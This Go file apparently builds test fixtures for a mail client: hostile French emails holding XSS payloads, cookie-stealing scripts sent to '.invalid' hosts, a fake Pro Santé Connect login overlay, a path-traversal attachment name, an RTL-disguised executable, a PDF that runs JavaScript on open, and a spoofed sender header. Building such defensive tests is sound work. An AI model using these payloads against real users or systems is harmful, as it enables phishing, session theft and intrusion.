package people

import (
	"bytes"
	"strings"
)

// hostileLetters: what somebody who means harm would send. Every host is under
// .invalid, which no resolver knows: a reader that reaches out is caught, nobody
// is called.
func hostileLetters(c *composer) {
	c.add(
		draft{id: "hostile-html", purpose: "HTML hostile : scripts, SVG, traceurs, ruses CSS, formulaires", from: "suspect", to: "martin", day: -2, clock: "03:14", subject: "Mise à jour obligatoire de votre messagerie",
			text: "Votre messagerie expire. Affichez cette lettre en HTML.\n", html: hostileHTML},
		draft{id: "hostile-overlay", purpose: "fausse page de connexion posée par-dessus la lettre", from: "suspect", to: "lilas", day: -2, clock: "03:15", subject: "Session expirée, reconnectez-vous", marks: "lilas unread",
			html: overlayHTML},
		draft{id: "hostile-fichiers", purpose: "noms de fichier trompeurs, contenus actifs", from: "suspect", to: "martin", day: -5, clock: "02:40", subject: "Facture impayée", marks: "martin in Junk unread",
			files: []file{
				{name: "facture\u202efdp.exe", contentType: "application/octet-stream", data: []byte("MZ fictif")},
				{name: "../../etc/passwd", contentType: "text/plain", data: []byte("root:x:0:0\n"), naming: "raw"},
				{name: "page.html", contentType: "text/html; charset=utf-8", data: []byte("<script>fetch('https://vol.invalid/'+document.cookie)</script><h1>Facture</h1>")},
				{name: "dessin.svg", contentType: "image/svg+xml", data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><text y="20">dessin</text></svg>`)},
				{name: "image.png", contentType: "image/png", data: []byte("<html><script>alert(3)</script></html>"), naming: "raw"},
				{name: "rapport.pdf", contentType: "application/pdf", data: scriptedPDF()},
			},
			text: "Veuillez régler la facture jointe sous 24 heures.\n"},
		draft{id: "hostile-entete", purpose: "nom affiché qui usurpe une adresse, sujet à contrôles et bidi", from: "suspect", to: "petit", day: -6, clock: "04:00", raw: spoofedHeader,
			text: "Bonjour, merci de me renvoyer le dossier à mon adresse personnelle.\n"},
	)
}

const hostileHTML = `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://piege.invalid/refresh">
<base href="https://piege.invalid/">
<link rel="stylesheet" href="https://piege.invalid/style.css">
<script>document.location='https://piege.invalid/script?'+document.cookie</script>
<style>@import 'https://piege.invalid/import.css'; body { background: url(https://piege.invalid/fond.png) } @font-face { font-family: x; src: url(https://piege.invalid/police.woff) }
p { background-image: \75rl(https://piege.invalid/echappe.png) } a[href^="m"] { background: url(//piege.invalid/attribut) }
.fixe { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; opacity: .01 }</style></head>
<body onload="alert(1)" background="https://piege.invalid/corps.png">
<img src="https://pixel.invalid/ouvert.gif?id=claire.martin" width="1" height="1"><img src=x onerror=alert(2)>
<img srcset="https://pixel.invalid/2x.gif 2x" alt=""><picture><source srcset="https://pixel.invalid/source.gif"><img src="//pixel.invalid/relatif.gif"></picture>
<p>Docteur, votre messagerie <b>expire aujourd’hui</b>.</p>
<svg onload="alert(3)"><script>alert(4)</script><a xlink:href="javascript:alert(5)"><text y="20">SVG</text></a><foreignObject><iframe src="https://piege.invalid/fo"></iframe></foreignObject><use href="https://piege.invalid/u.svg#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(6)&gt;"></mglyph></table></mtext></math>
<a href="javascript:alert(7)">Réactiver</a> <a href=" java&#9;script:alert(8)">ici</a> <a href="data:text/html,<script>alert(9)</script>">ou là</a> <a href="https://piege.invalid/clic" target="_top" ping="https://pixel.invalid/ping">site officiel</a>
<form action="https://piege.invalid/vol" method="post"><input name="identifiant" placeholder="Identifiant"><input type="password" name="mdp"><button formaction="https://piege.invalid/bouton">Valider</button></form>
<iframe srcdoc="<script>parent.alert(10)</script>"></iframe><object data="https://piege.invalid/o.swf"></object><embed src="https://piege.invalid/e"><video src="https://pixel.invalid/v.mp4" poster="https://pixel.invalid/p.jpg" autoplay></video><audio src="https://pixel.invalid/a.mp3" autoplay></audio>
<div style="background:url('https://piege.invalid/div.png');width:expression(alert(11));behavior:url(#x);-moz-binding:url(//piege.invalid/xbl)">ruses</div>
<div class="fixe"><a href="https://piege.invalid/couvre">.</a></div><template><img src=x onerror=alert(12)></template><noscript><p title="</noscript><img src=x onerror=alert(13)>"></noscript>
<details open ontoggle=alert(14)><summary>détails</summary></details><marquee onstart=alert(15)>défilé</marquee><p id="location" name="cookie">écrasement du DOM</p>
<p style="display:none">texte caché pour les filtres</p><p>Fin de la lettre hostile.</p></body></html>
`

const overlayHTML = `<html><body style="margin:0"><div style="position:fixed;inset:0;background:#f5f4ef;z-index:2147483647;font-family:sans-serif;text-align:center;padding-top:80px">
<h1>Pro Santé Connect</h1><p>Votre session a expiré. Saisissez à nouveau vos identifiants.</p>
<form action="https://connexion.invalid/psc" method="post"><p><label>Identifiant <input name="u"></label></p><p><label>Code <input type="password" name="p"></label></p><p><button>Se connecter</button></p></form>
<p><a href="https://connexion.invalid/psc" target="_parent">Ouvrir ma session</a></p></div><p>Texte sous la fausse page.</p></body></html>
`

// scriptedPDF asks a viewer to run a script when it is opened.
func scriptedPDF() []byte {
	pdf := paper{head: "Facture", pages: [][]string{{"# Facture 2291", "Montant : 480,00"}}}.pdf()
	return bytes.Replace(pdf, []byte("/Type /Catalog /Pages 2 0 R /Lang (fr-FR)"), []byte("/Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), 1)
}

// spoofedHeader shows another's address as its display name.
func spoofedHeader(c *composer, d draft) []byte {
	d.raw = nil
	d.subject = "Dossier \u202exfp\u202c urgent"
	raw := string(c.compose(d))
	return []byte(strings.Replace(raw, "From: Support Mailiz", "From: \"claire.martin@medecin.mssante.fr\"", 1))
}
